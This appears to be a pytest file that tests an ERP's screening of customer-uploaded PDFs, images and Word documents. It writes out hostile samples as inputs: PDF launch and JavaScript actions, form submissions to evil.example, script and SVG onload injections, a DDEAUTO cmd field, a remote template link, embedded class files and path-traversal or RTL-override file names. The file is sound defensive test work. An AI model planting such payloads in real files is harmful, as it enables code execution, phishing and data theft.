"""Is what could harm whoever opens it told from what customers honestly send?"""

from collections.abc import Callable

import pytest

from domain.documents import media_type_of, plain_name
from erp.evidence.examination import examine
from models.evidence import Evidence, FileFault
from tests import evidence


async def fault_of(name: str, content: bytes) -> FileFault | None:
    media_type = media_type_of(name, content)
    assert media_type is not None
    return await examine(Evidence(plain_name(name, media_type), media_type, content))


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("slip.pdf", evidence.pdf),
        ("slip.pdf", evidence.linked),
        ("slip of a bank.pdf", lambda: evidence.locked("")),
        ("e-invoice.pdf", lambda: evidence.carrying("factur-x.xml")),
        ("photo.png", evidence.png),
        ("photo.jpg", lambda: evidence.jpeg(4000, 3000)),
        ("photo in motion.jpg", lambda: evidence.jpeg() + b"\x00\x00\x00\x18ftypmp42" + bytes(500)),
        ("photo.webp", evidence.webp),
        ("IMG_0001.HEIC", evidence.heic),
        (
            "letter.docx",
            lambda: evidence.docx(word___rels__document_xml_rels=evidence.related("hyperlink", "https://x")),
        ),
        ("note.txt", lambda: "pagué el lunes".encode()),
    ],
)
async def test_what_customers_honestly_send_is_taken(name: str, make: Callable[[], bytes]) -> None:
    assert await fault_of(name, make()) is None


@pytest.mark.parametrize(
    ("make", "fault"),
    [
        (lambda: evidence.acting("/JavaScript", JS="app.alert(1)"), FileFault.ACTIVE),
        (lambda: evidence.acting("/Launch", F="cmd.exe"), FileFault.ACTIVE),
        (lambda: evidence.acting("/SubmitForm", F="https://evil.example"), FileFault.ACTIVE),
        (lambda: evidence.acting("/GoToR", F="//evil.example/share"), FileFault.ACTIVE),
        (evidence.hidden_in_a_stream, FileFault.ACTIVE),
        (lambda: evidence.carrying("invoice.exe"), FileFault.CARRIES),
        (lambda: evidence.locked("secret"), FileFault.LOCKED),
        (lambda: evidence.pdf() + b"<html><script>alert(1)</script></html>", FileFault.ACTIVE),
        (lambda: evidence.pdf() + evidence.archive(Main_class=b"\xca\xfe\xba\xbe"), FileFault.CARRIES),
        (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20, FileFault.BROKEN),
        (lambda: b"%PDF-1.7\n" + b"<<" * 200_000, FileFault.BROKEN),
    ],
)
async def test_a_pdf_that_acts_hides_or_is_none_is_refused(make: Callable[[], bytes], fault: FileFault) -> None:
    assert await fault_of("slip.pdf", make()) is fault


@pytest.mark.parametrize(
    ("name", "make", "fault"),
    [
        ("x.jpg", lambda: evidence.jpeg() + evidence.archive(Main_class=b"\xca\xfe\xba\xbe"), FileFault.CARRIES),
        ("x.webp", lambda: evidence.webp() + evidence.archive(a_js=b"x"), FileFault.CARRIES),
        ("x.png", lambda: evidence.png(200_000, 200_000), FileFault.LARGE),
        ("x.jpg", lambda: evidence.jpeg(65_000, 65_000), FileFault.LARGE),
        ("x.png", lambda: b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", FileFault.BROKEN),
        ("x.jpg", lambda: b"\xff\xd8\xff<script>alert(1)</script>", FileFault.BROKEN),
    ],
)
async def test_a_picture_that_is_something_else_too_is_refused(
    name: str, make: Callable[[], bytes], fault: FileFault
) -> None:
    assert await fault_of(name, make()) is fault


@pytest.mark.parametrize(
    ("make", "fault"),
    [
        (evidence.bomb, FileFault.LARGE),
        (lambda: evidence.docx(word__vbaProject_bin=b"x"), FileFault.ACTIVE),
        (
            lambda: evidence.docx(word__document_xml=b'<w:instrText xml:space="x">DDEAUTO c:\\cmd</w:instrText>'),
            FileFault.ACTIVE,
        ),
        (
            lambda: evidence.docx(word___rels__settings_xml_rels=evidence.related("attachedTemplate", "//evil/t.dotm")),
            FileFault.ACTIVE,
        ),
        (lambda: evidence.docx(word__embeddings__oleObject1_bin=b"x"), FileFault.CARRIES),
        (lambda: evidence.docx(__tmp__out=b"x"), FileFault.BROKEN),
        (lambda: evidence.archive(Main_class=b"x"), FileFault.BROKEN),
        (lambda: b"PK\x03\x04" + bytes(100), FileFault.BROKEN),
    ],
)
async def test_a_document_that_acts_or_unfolds_is_refused(make: Callable[[], bytes], fault: FileFault) -> None:
    assert await fault_of("letter.docx", make()) is fault


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("slip.pdf", b"<!doctype html><script>alert(1)</script>"),
        ("photo.jpg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("slip.pdf", b"<html>%PDF-1.7"),
        ("slip.pdf", b"MZ\x90\x00"),
        ("photo.svg", b"<svg/>"),
        ("photo.gif", b"GIF89a/*"),
        ("letter.docm", b"PK\x03\x04"),
    ],
)
def test_what_a_file_is_called_does_not_make_it_that(name: str, content: bytes) -> None:
    assert media_type_of(name, content) is None


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\eva\\slip.pdf", "slip.pdf"),
        ("slip\x00.exe.pdf", "slip.exe.pdf"),
        ("slip\u202efdp.exe", "slipfdp.exe.pdf"),
        ("order.html", "order.html.pdf"),
        ("..", "document.pdf"),
        (".pdf", "pdf.pdf"),
        ("", "document.pdf"),
        ("COPIA.PDF", "COPIA.PDF"),
        ('a<b>:"c|?*.pdf', "abc.pdf"),
        ("n" * 300 + ".pdf", "n" * 146 + ".pdf"),
        ("albarán nº 7.pdf", "albarán nº 7.pdf"),
    ],
)
def test_a_name_fits_any_folder_and_says_what_the_file_is(name: str, kept: str) -> None:
    assert plain_name(name, "application/pdf") == kept
